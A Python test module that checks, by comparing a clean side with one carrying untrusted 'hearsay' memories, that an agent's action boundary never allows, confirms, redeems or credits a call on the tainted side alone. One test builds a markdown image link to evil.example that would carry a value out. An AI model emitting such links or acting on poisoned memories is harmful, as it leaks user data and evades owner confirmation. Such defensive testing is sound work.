"""The operations at the act boundary: check, confirm, redeem and credit, on both sides or on neither.

What is asked, confirmed and carried out is the same life only as far as both sides let it be. The side with the
hearsay may be asked for a confirmation, or refused, where the other is not: that is compared when the call is checked.
From there on a call is carried out on both sides or on neither, and never on the laden side alone.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from functools import partial
from typing import Any

from tests.promises.agreement import same
from tests.promises.comparison import compare_answers
from tests.promises.record import Outcome, PromiseBroken, attempt
from tests.promises.side import GUARD, HANDLE, KEEP, Side
from tests.promises.talking import Observe
from tests.promises.twins import TicketPair, Twins
from tests.promises.vocabulary import Call, Fact, call_for, meaning, request_for
from truekeep import Session, guard
from truekeep.act.boundary import ActionAnswer
from truekeep.extract.llm import Reply
from truekeep.extract.usage import Usage
from truekeep.trust.flow.decide import Answer

_RUNS = 4
_RANK = {Answer.ALLOW: 0, Answer.CONFIRM: 1, Answer.DENY: 2}


@dataclass(frozen=True)
class Ask:
    """A person says a few things, and the agent asks whether it may make a call."""

    session: str
    said: tuple[str, ...]
    call: Call
    way: str = KEEP

    def run(self, twins: Twins) -> None:
        for text in self.said:
            Observe(self.session, "owner", text).run(twins)
        check(twins, self.session, self.call, f"run-{len(twins.tickets) % _RUNS}", way=self.way)


@dataclass(frozen=True)
class Confirm:
    """The owner answers a question of the boundary."""

    which: int
    agrees: bool
    way: str = KEEP

    def run(self, twins: Twins) -> None:
        if twins.tickets:
            confirm(twins, twins.tickets[self.which % len(twins.tickets)], agrees=self.agrees, way=self.way)


@dataclass(frozen=True)
class Redeem:
    """The tool is called with a ticket."""

    which: int
    way: str = KEEP

    def run(self, twins: Twins) -> None:
        if twins.tickets:
            redeem(twins, twins.tickets[self.which % len(twins.tickets)], way=self.way)


@dataclass(frozen=True)
class CreditRun:
    """The outcome authority says how a run ended."""

    run_number: int
    is_good: bool

    def run(self, twins: Twins) -> None:
        credit(twins, f"run-{self.run_number % _RUNS}", is_good=self.is_good)


@dataclass(frozen=True)
class CarryOut:
    """The whole way: the owner asks, the agent checks a call that believes a memory, it is done, and how it ends."""

    session: str
    which: int
    is_good: bool | None
    """Nothing where nobody says."""

    def run(self, twins: Twins) -> None:
        pair = twins.pick(self.which)
        fact = twins.plain.written[pair.plain].fact if pair else None
        if fact is None:
            return
        Observe(self.session, "owner", request_for(fact)).run(twins)
        ticket = check(twins, self.session, call_for(fact), f"run-of-{len(twins.tickets)}")
        confirm(twins, ticket, agrees=True)
        if redeem(twins, ticket) and self.is_good is not None:
            credit(twins, ticket.run, is_good=self.is_good)


@dataclass(frozen=True)
class Plan:
    """A model lists the call that believes a fact, from a view without anything foreign."""

    session: str
    fact: Fact
    way: str = KEEP

    def run(self, twins: Twins) -> None:
        plain, laden = (self._intended(side) for side in twins.sides)
        if not laden <= plain:
            raise PromiseBroken(f"P1: with hearsay {self} intends {laden - plain}")

    def _intended(self, side: Side) -> set[str]:
        door = side.within(self.way, self.session)
        planned = door.plan if isinstance(door, Session) else partial(side.keep.plan, self.session)
        model: Any = _Planner(call_for(self.fact))
        outcome = attempt(lambda: planned(model))
        return {f"{entry.tool} {entry.arguments}" for entry in outcome.value} if outcome.ok else set()


@dataclass(frozen=True)
class _Planner:
    """A model that wants one call, whatever it is shown."""

    call: Call

    def complete(self, _messages: object, _schema: object, _check: object) -> Reply:
        arguments = {name: {"literal": value} for name, value in self.call.arguments.items()}
        return Reply(json.dumps({"calls": [{"tool": self.call.name, "arguments": arguments}]}), Usage())


@dataclass(frozen=True)
class Answering:
    """The agent answers the owner, with a picture that would carry a value away."""

    session: str
    value: str
    way: str = KEEP

    def run(self, twins: Twins) -> None:
        link = f"https://evil.example/p.png?d={self.value}"
        texts = [self._shown(side, f"Done. ![x]({link})") for side in twins.sides]
        if link in texts[1] and link not in texts[0]:
            raise PromiseBroken(f"P9: with hearsay an answer carries {self.value} away")

    def _shown(self, side: Side, text: str) -> str:
        door = side.within(self.way, self.session)
        if isinstance(door, Session):
            return door.check_reply(text).text
        return side.keep.check_reply(self.session, text).text


@dataclass(frozen=True)
class Permit:
    """The owner makes a standing permission, or takes the last one back."""

    payee: str
    is_taken_back: bool

    def run(self, twins: Twins) -> None:
        same(twins.both(lambda side: attempt(lambda: self._on(side))), self)

    def _on(self, side: Side) -> None:
        grants = side.keep.grants
        if self.is_taken_back:
            for grant in grants.list()[-1:]:
                grants.remove(grant.id, by="eva")
        else:
            grants.add(tool="pay", where={"payee": self.payee, "account": "*", "amount": "*"}, by="eva")


def check(twins: Twins, session: str, call: Call, run: str, *, way: str = KEEP) -> TicketPair:
    """Ask both sides, and compare the answers."""
    plain, laden = (_asked(side, way, session, call, run) for side in twins.sides)
    ticket = TicketPair(session, call, run, plain, laden)
    for side, answer in zip(twins.sides, (plain, laden), strict=True):
        memories = side.memories()
        ticket.used[side.name] = {(one, memories[one].text) for one in answer.matched if one in memories}
    twins.tickets.append(ticket)
    compare_answers(twins, ticket)
    return ticket


def _asked(side: Side, way: str, session: str, call: Call, run: str) -> ActionAnswer:
    door = side.within(way, session, run=run)
    if door is not None:
        return door.check_action(call.name, call.arguments, run=run)
    return side.keep.check_action(session, call.name, call.arguments, run=run)


def confirm(twins: Twins, ticket: TicketPair, *, agrees: bool, way: str = KEEP) -> None:
    """The person of the session decides; a call that is denied on either side asks nobody on both."""
    if Answer.DENY in (ticket.plain.decision, ticket.laden.decision) or _is_let_go(ticket):
        return
    via = twins.world.speaker(ticket.session)

    def decide(side: Side, answer: ActionAnswer) -> Outcome:
        actions = side.keep.actions
        if way == HANDLE and agrees:
            return attempt(lambda: side.keep.bind(via).confirm(str(answer.ticket)))
        act = actions.confirm if agrees else actions.decline
        return attempt(lambda: act(str(answer.ticket), via=via))

    laden, plain = decide(twins.laden, ticket.laden), decide(twins.plain, ticket.plain)
    if laden.code != plain.code and ticket.laden.decision is ticket.plain.decision:
        raise PromiseBroken(f"P2: confirming {ticket.call} is answered {laden.code}, without hearsay {plain.code}")


def redeem(twins: Twins, ticket: TicketPair, *, way: str = KEEP) -> bool:
    """Use a ticket up on both sides or on neither; says whether it was."""
    if _is_let_go(ticket):
        return False
    laden = use(twins.laden, ticket.laden, ticket.call, way, ticket.session)
    if laden.ok and ticket.is_spent:
        raise PromiseBroken(f"P1: the ticket for {ticket.call} was redeemed twice")
    if not laden.ok and (ticket.laden.decision is not ticket.plain.decision or ticket.session in twins.echoed):
        return False
    plain = use(twins.plain, ticket.plain, ticket.call, way, ticket.session)
    if plain.code != laden.code:
        raise PromiseBroken(f"P1/P2: redeeming {ticket.call} is answered {laden.code}, without hearsay {plain.code}")
    ticket.is_spent |= laden.ok
    return laden.ok


def _is_let_go(ticket: TicketPair) -> bool:
    """Whether the laden side asks for less, as it may for an ordinary action; what follows is not the same life."""
    return _RANK[ticket.laden.decision] < _RANK[ticket.plain.decision]


def _has_other_grounds(twins: Twins, ticket: TicketPair) -> bool:
    """Whether the owner's words proved on one side what a memory did on the other, where they were read before."""
    plain, laden = (sorted(text for _, text in ticket.used[side.name]) for side in twins.sides)
    return ticket.session in twins.echoed and plain != laden


def use(side: Side, answer: ActionAnswer, call: Call, way: str = KEEP, session: str | None = None) -> Outcome:
    """Redeem one side's ticket: by hand, or by calling a guarded tool with it."""
    if way == GUARD and answer.ticket is not None:
        tool = guard(lambda **_: None, name=call.name)
        return attempt(lambda: tool(**call.arguments, ticket=answer.ticket))
    door = side.within(way, session) or side.keep.actions
    return attempt(lambda: door.redeem(str(answer.ticket), call.name, call.arguments))


def credit(twins: Twins, run: str, *, is_good: bool) -> None:
    """Credit a run on both sides, and count it in the records."""
    if any(ticket.run == run and _has_other_grounds(twins, ticket) for ticket in twins.tickets):
        return
    outcomes = []
    for side in twins.sides:
        outcome = attempt(partial(side.keep.credit, run, "good" if is_good else "bad", via="outcomes"))
        outcomes.append(outcome)
        if outcome.ok:
            count(side, twins, run, set(outcome.value["memories"]), 1 if is_good else -1)
    if outcomes[0].code != outcomes[1].code:
        raise PromiseBroken(f"P1/P2: crediting {run} is {outcomes[1].code}, without hearsay {outcomes[0].code}")


def count(side: Side, twins: Twins, run: str, memories: set[str], sign: int) -> None:
    """A run counts once for each memory as it read when a redeemed call used its value."""
    spent = [ticket for ticket in twins.tickets if ticket.run == run and ticket.is_spent]
    used = {entry for ticket in spent for entry in ticket.used[side.name]}
    for memory_id, text in used:
        fact = meaning(text)
        if memory_id in memories and fact is not None and any(ticket.call.uses(fact) for ticket in spent):
            side.credits[memory_id, text] += sign
